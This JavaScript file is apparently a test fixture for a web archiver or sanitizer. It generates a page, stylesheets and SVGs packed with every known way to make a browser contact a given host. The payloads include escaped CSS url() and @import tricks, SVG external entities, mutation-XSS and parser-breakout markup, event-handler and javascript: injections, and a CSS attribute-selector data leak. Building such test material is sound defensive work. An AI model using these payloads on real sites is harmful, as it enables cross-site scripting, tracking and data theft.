// A page that has a browser ask for things, in every way that we know of; all of them name the host that is given. What is
// stored with it (hostileAssets) tries the same.

const sheet = (host, more = "") => String.raw`@charset "utf-8";@import "http://${host}/css-import-string";@import url(http://${host}/css-import-url);@import url("//${host}/css-import-host") screen;
@im\70ort "http://${host}/css-import-escaped";@IMPORT/**/url('http://${host}/css-import-comment');
@namespace svg url(http://${host}/css-namespace);
@font-face { font-family: evil; src: url(http://${host}/font.woff2) format("woff2"), url('http://${host}/font.ttf') }
* { font-family: evil, sans-serif }
.a { background: url(http://${host}/css-url) } .b { background: url("http://${host}/css-url-quoted") } .c { background: url( 'http://${host}/css-url-single' ) }
.d { background: u\72l(http://${host}/css-escaped) } .e { background: \75\72\6c("http://${host}/css-escaped-all") } .f { background: URL(http://${host}/css-upper) }
.g { background: url(ht\74p://${host}/css-escaped-inside) } .h { background: url(//${host}/css-host) } .i { background: url(\68ttp:\2f\2f${host}/css-escaped-slashes) }
.j { background: image-set("http://${host}/css-image-set" 1x, url(http://${host}/css-image-set-url) 2x) } .k { background: -webkit-image-set(url(http://${host}/css-webkit-set) 1x) }
.l { background: image("http://${host}/css-image") } .m { background: cross-fade(url(http://${host}/css-cross-fade), url(http://${host}/css-cross-fade2), 50%) }
.n { background: -webkit-cross-fade(url(http://${host}/css-webkit-cross-fade), url(http://${host}/css-webkit-cross-fade2), 50%) } .o { background: src("http://${host}/css-src") }
.p { --evil: url(http://${host}/css-variable); background: var(--evil) } .q { --evil: "http://${host}/css-variable-set"; background: image-set(var(--evil) 1x) } .r { --evil: "http://${host}/css-variable-src"; background: src(var(--evil)) }
.s { cursor: url(http://${host}/css-cursor), auto } .t { list-style: url(http://${host}/css-list) } .u { list-style-image: url(http://${host}/css-list-image) } .v::before { content: url(http://${host}/css-content) "x" }
.w { border-image: url(http://${host}/css-border-image) 30 } .x { mask: url(http://${host}/css-mask#a); -webkit-mask-image: url(http://${host}/css-webkit-mask) } .y { filter: url(http://${host}/css-filter#a); clip-path: url(http://${host}/css-clip#a) }
.z { shape-outside: url(http://${host}/css-shape); offset-path: url(http://${host}/css-offset#a); fill: url(http://${host}/css-fill#a) }
.aa { behavior: url(http://${host}/css-behavior); -moz-binding: url(http://${host}/css-binding#a); width: expression(fetch("http://${host}/css-expression")) }
.bb { background: url(http://${host}/css-unclosed } .cc { background: url("http://${host}/css-broken
"); color: red } .dd { background: /* */ url(/* no comment */http://${host}/css-comment) } .ee { background: \
url(http://${host}/css-newline) }
@media screen { .ff { background: url(http://${host}/css-media) } } @supports (display: grid) { .gg { background: url(http://${host}/css-supports) } } @layer x { .hh { background: url(http://${host}/css-layer) } }
.ii { & p { background: url(http://${host}/css-nested) } } @property --image { syntax: "<image>"; inherits: false; initial-value: url(http://${host}/css-property) } .jj { background: var(--image) }
.kk { background: url(http://${host}/css-attr) attr(data-evil url) } .ll { background-image: attr(data-evil type(<url>)) } @page { background: url(http://${host}/css-page) }
@keyframes evil { from { background: url(http://${host}/css-keyframes) } to { background: url(http://${host}/css-keyframes2) } } .mm { animation: evil 1s infinite }
@counter-style evil { system: cyclic; symbols: url(http://${host}/css-symbols) } .nn { list-style: evil } .oo::marker { content: url(http://${host}/css-marker) } .pp::selection { background: url(http://${host}/css-selection) }
@container (min-width: 1px) { .qq { background: url(http://${host}/css-container) } } @scope (.qq) { p { background: url(http://${host}/css-scope) } } @starting-style { .rr { background: url(http://${host}/css-starting) } }
input[value^="a"] { background: url(http://${host}/css-leak-a) } @view-transition { navigation: auto }
.ss { background: url("http://${host}/css-\0nul") } .tt { background: url(http://${host}/css-\
line) } .uu { content: "</style><img src=http://${host}/css-breaks-out>"; background: url('http://${host}/css-after') } .vv { background: url(blob:http://${host}/css-blob) } .ww { background: url(filesystem:http://${host}/css-fs) }
<!-- .xx { background: url(http://${host}/css-cdo) } --> .yy { background: url(${"\t"}http://${host}/css-tab) } .zz { background: url(data:image/svg+xml,%3Csvg%20xmlns='http://www.w3.org/2000/svg'%3E%3Cimage%20href='http://${host}/css-data-svg'/%3E%3C/svg%3E) }
${more}`;

const classes = [..."abcdefghijklmnopqrstuvwxyz"].flatMap((one) => [one, one + one]);

const svg = (host, width) => `<?xml version="1.0"?><?xml-stylesheet href="http://${host}/svg-pi.css"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://${host}/svg.dtd" [<!ENTITY x SYSTEM "http://${host}/svg-entity">]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="${width}" height="10" onload="fetch('http://${host}/svg-onload')"><script>fetch("http://${host}/svg-script"); top.owned = "svg"</script><script href="http://${host}/svg-script-href"/>
<style>@import "http://${host}/svg-import"; rect { fill: url(http://${host}/svg-fill#a) } @font-face { font-family: e; src: url(http://${host}/svg-font) } text { font-family: e }</style><text>x</text>
<image href="http://${host}/svg-image" width="5" height="5"/><use xlink:href="http://${host}/svg-use#a"/><foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="http://${host}/svg-frame"></iframe><img xmlns="http://www.w3.org/1999/xhtml" src="http://${host}/svg-img"/></foreignObject>
<a href="http://${host}/svg-a"><rect width="5" height="5"/></a><animate attributeName="href" to="http://${host}/svg-animate"/><feImage href="http://${host}/svg-feimage"/></svg>`;

// Beside the page: what would be stored of a hostile site.
export const hostileAssets = (host) => ({
  "evil.css": sheet(host, `@import "evil2.css"; h1 { color: rgb(1, 2, 3) }`).replace("@charset", `@import "evil2.css"; @charset`),
  "evil2.css": `@import "evil.css"; ${sheet(host)} h1 { padding-left: 7px }`,
  "evil.svg": svg(host, 10).replace(/<!DOCTYPE.*?>\]?>?\n/, ""),
  "evil2.svg": svg(host, 20).replace(/<!DOCTYPE[^\n]*\n/, ""),
  "page.css": `<!-- @import "http://${host}/html-as-css"; --> x { background: url(http://${host}/html-as-css-url) }`,
});

export const tricksPage = (host) => `<?xml-stylesheet href="http://${host}/pi.css"?><!doctype html><html manifest="http://${host}/manifest" xmlns="http://www.w3.org/1999/xhtml" xmlns:e="http://${host}/ns" profile="http://${host}/profile" onload="fetch('http://${host}/onload')">
<head profile="http://${host}/head-profile"><title>Tricks</title><meta http-equiv="refresh" content="0;url=http://${host}/refresh"><meta http-equiv="Content-Security-Policy" content="report-uri http://${host}/csp"><meta http-equiv="Link" content="<http://${host}/meta-link>; rel=stylesheet">
<meta http-equiv="set-cookie" content="a=b"><meta http-equiv="x-dns-prefetch-control" content="on"><meta name="referrer" content="unsafe-url"><meta property="og:image" content="http://${host}/og">
${["stylesheet", "preload", "prefetch", "dns-prefetch", "preconnect", "modulepreload", "prerender", "manifest", "icon", "apple-touch-icon", "import", "serviceworker", "pingback", "search", "alternate stylesheet", "next", "expect"].map((rel) => `<link rel="${rel}" href="http://${host}/link-${rel.replace(" ", "-")}" as="style" imagesrcset="http://${host}/link-set 1x">`).join("\n")}
<LINK REL=StyleSheet HREF=//${host}/link-upper><link rel=stylesheet href="evil.css"><script src="http://${host}/script"></script><script type="module">import "http://${host}/module"; top.owned = 1</script><script type="importmap">{"imports": {"x": "http://${host}/map"}}</script><script type="speculationrules">{"prefetch": [{"source": "list", "urls": ["http://${host}/speculation"]}]}</script>
<script>navigator.serviceWorker?.register("http://${host}/worker"); new Image().src = "http://${host}/new-image"; navigator.sendBeacon("http://${host}/beacon"); new WebSocket("ws://${host}/socket")</script>
<style>${sheet(host).replaceAll("</style>", "<\\/style>")}</style><style>p { color: green }</style ><style>a{}</STYLE/><img src=http://${host}/style-ends><style><!--</style><img src=http://${host}/style-comment>--></style>
<style>.never { background: url("http://${host}/style-unclosed</style><img src="http://${host}/after-style"><noscript><style>@import "http://${host}/noscript"</style><img src="http://${host}/noscript-img"></noscript>
<base href="http://${host}/base/"><base target="_top"></head>
<body background="http://${host}/body-background" bgcolor="white" onload="fetch('http://${host}/body-onload')" style="background: url(http://${host}/body-style)"><h1>Tricks</h1>
${classes.map((one) => `<p class="${one}" data-evil="http://${host}/data">${one}</p>`).join("")}
<div style="background: u\\72l(http://${host}/style-escaped)"></div><div style='background: url("http://${host}/style-quoted")'></div><div style="background:url(&#104;ttp://${host}/style-entity)"></div><div style="background: image-set('http://${host}/style-set' 1x)"></div><div style="color:red;}</style><img src=http://${host}/style-attr>"></div>
<img src="http://${host}/img"><img srcset="http://${host}/srcset 1x, http://${host}/srcset2 2x"><img src="evil.svg" class="stored"><img src="evil2.svg" class="stored"><img data-src="http://${host}/lazy" loading="lazy"><img src=x onerror="fetch('http://${host}/onerror')"><img lowsrc="http://${host}/lowsrc" dynsrc="http://${host}/dynsrc" longdesc="http://${host}/longdesc" usemap="http://${host}/usemap#a"><image src="http://${host}/image">
<img src="data:image/svg+xml,%3Csvg%20xmlns='http://www.w3.org/2000/svg'%20onload='top.owned=2'%3E%3Cimage%20href='http://${host}/data-svg'/%3E%3C/svg%3E"><img src="data:text/html,<img src=http://${host}/data-html>"><img src="javascript:fetch('http://${host}/js')"><img src="//${host}/img-host"><img src="\\\\${host}\\img-backslash"><img src=" http://${host}/img-blank"><img src="ht
tp://${host}/img-newline">
<picture><source srcset="http://${host}/source" media="(min-width: 1px)"><source src="http://${host}/source-src" type="image/png"><img src="http://${host}/picture-img"></picture><map name="a"><area shape="rect" coords="0,0,9,9" href="http://${host}/area" ping="http://${host}/area-ping"></map>
<video src="http://${host}/video" poster="http://${host}/poster" autoplay controls preload="auto"><source src="http://${host}/video-source"><track default src="http://${host}/track"></video><audio src="http://${host}/audio" autoplay></audio><bgsound src="http://${host}/bgsound">
<iframe src="http://${host}/iframe"></iframe><iframe srcdoc="<img src=http://${host}/srcdoc>"></iframe><iframe src="javascript:parent.owned=3"></iframe><frameset><frame src="http://${host}/frame"></frameset><object data="http://${host}/object" codebase="http://${host}/codebase" type="text/html"><param name="movie" value="http://${host}/param"></object><embed src="http://${host}/embed"><applet code="x" archive="http://${host}/applet"></applet><portal src="http://${host}/portal"></portal><fencedframe src="http://${host}/fenced"></fencedframe>
<form action="http://${host}/form" id="f"><input name="q" value="abc" autofocus onfocus="fetch('http://${host}/onfocus')"><input type="image" src="http://${host}/input-image" formaction="http://${host}/formaction"><button formaction="http://${host}/button" form="f">Send</button><isindex action="http://${host}/isindex"></isindex></form>
<a href="http://${host}/a" ping="http://${host}/ping" target="_top" attributionsrc="http://${host}/attribution">away</a><a href="javascript:top.owned=4">script</a><q cite="http://${host}/cite">q</q><blockquote cite="http://${host}/blockquote">b</blockquote><ins cite="http://${host}/ins">i</ins>
<table background="http://${host}/table-background"><tr background="http://${host}/tr-background"><td background="http://${host}/td-background">cell<td style="background: url(http://${host}/td-style)">cell</table><ul style="list-style: url(http://${host}/ul-style)"><li>x</ul><details open ontoggle="fetch('http://${host}/toggle')"><summary>s</summary>d</details><marquee onstart="fetch('http://${host}/marquee')" behavior="alternate">m</marquee>
${svg(host, 30).slice(svg(host, 30).indexOf("<svg"))}
<svg><use href="http://${host}/use#a"/><use xlink:href="//${host}/use-xlink#a"/><use href="data:image/svg+xml,<svg id='a' onload='top.owned=5'/>#a"/><path fill="url(http://${host}/path-fill#a)" filter="u\\72l(http://${host}/path-filter#a)" style="mask: url(http://${host}/path-mask#a)" marker-end="url('http://${host}/path-marker#a')" d="M0 0"/><image xlink:href="http://${host}/svg-image-inline"/><style>@import "http://${host}/svg-style"; path { fill: url(http://${host}/svg-style-fill#x) }</style><style>path{fill:u&#114;l(http://${host}/svg-entity#x)}</style><style><![CDATA[ @import "http://${host}/svg-cdata"; ]]></style>
<set attributeName="href" to="http://${host}/set"/><a xlink:href="javascript:top.owned=6"><text>t</text></a><title><img src=http://${host}/svg-title></title><desc><iframe src=http://${host}/svg-desc></iframe></desc><foreignObject><p><img src=http://${host}/foreign><style>@import "http://${host}/foreign-style"</style></p></foreignObject><p><img src=http://${host}/svg-breakout></svg>
<svg><style><img src=http://${host}/svg-style-img></style></svg><svg></p><style><a id="</style><img src=http://${host}/mutation onerror=top.owned=7>"></svg><svg><textarea><path id="</textarea><img src=http://${host}/mutation2>">
</svg><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=http://${host}/math-mutation&gt;"></math><math href="http://${host}/math-href"><maction actiontype="statusline" xlink:href="javascript:top.owned=8">m</maction><annotation-xml encoding="text/html"><img src=http://${host}/annotation><style>@import "http://${host}/annotation-style"</style></annotation-xml></math>
<template><img src="http://${host}/template"><script>top.owned = 9</script></template><template shadowrootmode="open"><img src="http://${host}/shadow"><style>@import "http://${host}/shadow-style"</style></template><xmp><img src="http://${host}/xmp"></xmp><noembed><img src="http://${host}/noembed"></noembed><noframes><img src="http://${host}/noframes"></noframes><listing><img src="http://${host}/listing"></listing>
<!--><img src="http://${host}/comment1">--><!---><img src="http://${host}/comment2">--><!-- --!><img src="http://${host}/comment3"> --><!- <img src="http://${host}/comment4">><![CDATA[<img src="http://${host}/cdata">]]><?php <img src="http://${host}/php">?>
<p title="&quot;><img src=http://${host}/quote>" alt='"><img src=http://${host}/quote2>' class="x&quot; onclick=&quot;top.owned=10" data-x='"><script>top.owned=11</script>' data-"><img="x" aria-label="--&gt;<img src=http://${host}/aria>" id="--><img src=http://${host}/id>">quoted</p><p data-href="javascript:1" data-src="http://${host}/data-src" l=1 t=1-2>ours</p>
<textarea></textarea><img src="http://${host}/after-textarea"><textarea>&lt;/textarea&gt;&lt;img src=http://${host}/textarea&gt;</textarea><select><option><img src="http://${host}/option"><style>@import "http://${host}/select-style"</style></option><svg><style>&lt;/style&gt;&lt;img src=http://${host}/select-svg&gt;</style></svg></select><e:img src="http://${host}/namespaced"/><x-card style="background: url(http://${host}/custom)" src="http://${host}/custom-src">card</x-card><annotation-xml encoding="text/html"><style>x</style></annotation-xml>
<img/src="http://${host}/slash"/onerror=top.owned=12><img src=http://${host}/grave onerror=\`top.owned=13\`><a\fhref="http://${host}/formfeed">x</a><p/onclick=top.owned=14 style=background:url(http://${host}/unquoted)>x</p><div popover id=pop style="background:url(http://${host}/popover)">x</div><button popovertarget=pop commandfor=pop command="show-popover">pop</button><dialog open><img src="http://${host}/dialog"></dialog><object><img src="http://${host}/object-fallback"></object>
<p>&lt;img src=http://${host}/text onerror=top.owned=15&gt; &amp;lt;script&amp;gt;</p><plaintext-not><p>The end of it</p></plaintext-not><plaintext><img src="http://${host}/plaintext"></body></html>`;
